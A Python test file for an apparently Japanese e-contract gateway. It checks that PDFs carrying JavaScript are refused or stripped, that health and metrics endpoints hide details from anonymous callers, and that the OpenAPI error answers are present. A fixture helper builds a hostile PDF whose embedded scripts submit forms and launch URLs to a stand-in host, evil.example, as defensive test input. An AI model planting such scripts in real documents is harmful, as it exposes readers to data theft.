"""Smaller leaks, over HTTP against the served app: PDFs that run JavaScript when opened
(refused, or stripped before the first signature), what /healthz and /metrics tell anonymous
callers, and the error answers the OpenAPI document promises (401, 400, 405 with Allow)."""

from __future__ import annotations

import base64
import io
from collections.abc import Callable

import httpx
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from core.envelopes.active_content import find_active_content
from core.envelopes.documents import read_document
from core.envelopes.lifecycle import get_envelope
from tests.fixtures.gateway import envelope_request
from tests.fixtures.pdfs import make_pdf
from tests.gateway.conftest import LiveGateway


def _js_action(script: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )


def _with_scripts(data: bytes) -> bytes:
    """``data`` with JavaScript run at opening (/OpenAction), on page 1's open (/AA /O) and at
    document level (/Names /JavaScript)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js_action("app.alert(1)"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _js_action("this.submitForm('http://evil.example/')")}
    )
    names = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [
                            TextStringObject("launch"),
                            writer._add_object(
                                _js_action("app.launchURL('http://evil.example/', true);")
                            ),
                        ]
                    )
                }
            )
        }
    )
    writer._root_object[NameObject("/Names")] = names
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _request_with(pdf: bytes) -> dict[str, object]:
    request = envelope_request()
    request["documents"][0]["content_base64"] = base64.b64encode(pdf).decode()  # type: ignore[index]
    return request


def test_a_pdf_running_javascript_is_refused_with_a_japanese_error(
    live_gateway: Callable[..., LiveGateway],
) -> None:
    live = live_gateway()
    scripted = _with_scripts(make_pdf(pages=2))
    assert len(find_active_content(scripted)) >= 3
    with live.client(live.token("e-bid")) as api:
        answer = api.post("/api/v1/envelopes", json=_request_with(scripted))
    assert answer.status_code == 422, answer.text
    error = answer.json()["error"]
    assert error["code"] == "document.active_content"
    assert "JavaScript" in error["message_ja"] and "工事請負契約書.pdf" in error["message_ja"]
    assert any("/OpenAction" in f for f in error["details"]["found"])


def test_with_strip_the_actions_are_gone_before_the_first_signature(
    live_gateway: Callable[..., LiveGateway],
) -> None:
    live = live_gateway(extra="limits:\n  pdf_active_content: strip\n")
    scripted = _with_scripts(make_pdf(pages=2))
    with live.client(live.token("e-bid")) as api:
        answer = api.post("/api/v1/envelopes", json=_request_with(scripted))
    assert answer.status_code == 201, answer.text
    assert answer.json()["documents"][0]["page_count"] == 2
    with live.gateway.sessions() as session:
        envelope = get_envelope(session=session, envelope_id=answer.json()["id"])
        stored = read_document(runtime=live.gateway.runtime, document=envelope.documents[0])
    assert find_active_content(stored) == []
    assert b"app.alert" not in stored and b"evil.example" not in stored


def test_healthz_and_metrics_tell_anonymous_callers_nothing(
    live_gateway: Callable[..., LiveGateway],
) -> None:
    live = live_gateway(
        extra="  operations_networks: []\n  operations_token: ops-Secret-2026-xyz\n"
    )
    with httpx.Client(base_url=live.url) as anonymous:
        health = anonymous.get("/healthz")
        assert health.status_code == 200
        assert health.json() == {"status": "ok"}  # no checks, no paths, no hosts
        metrics = anonymous.get("/metrics")
        assert metrics.status_code == 401 and "keiyaku_" not in metrics.text
        wrong = anonymous.get("/metrics", headers={"Authorization": "Bearer ops-wrong"})
        assert wrong.status_code == 401
    ops = {"Authorization": "Bearer ops-Secret-2026-xyz"}
    with httpx.Client(base_url=live.url, headers=ops) as operator:
        detailed = operator.get("/healthz").json()
        assert detailed["checks"]["blobs"]["status"] == "ok"
        metrics = operator.get("/metrics")
        assert metrics.status_code == 200 and "keiyaku_envelopes" in metrics.text


def test_openapi_documents_error_answers_and_trace_gets_405_with_allow(
    live_gateway: Callable[..., LiveGateway],
) -> None:
    live = live_gateway()
    with httpx.Client(base_url=live.url) as client:
        spec = client.get("/openapi.json").json()
        for path, operations in spec["paths"].items():
            for method, operation in operations.items():
                responses = operation["responses"]
                assert "400" in responses, (method, path)
                if path.startswith("/api/"):
                    assert "401" in responses, (method, path)
                if "requestBody" in operation:
                    assert "413" in responses, (method, path)
                for status, response in responses.items():
                    if int(status) >= 400:
                        schema = response["content"]["application/json"]["schema"]
                        assert schema == {"$ref": "#/components/schemas/Error"}, (path, status)
        unauthorized = client.get("/api/v1/envelopes")
        assert unauthorized.status_code == 401 and set(unauthorized.json()["error"]) >= {
            "code",
            "message_ja",
        }
        trace = client.request("TRACE", "/api/v1/envelopes")
        assert trace.status_code == 405, (trace.headers, trace.text)
        assert set(trace.headers["allow"].replace(" ", "").split(",")) == {"GET", "POST"}
        assert trace.json()["error"]["code"] == "request.method_not_allowed"
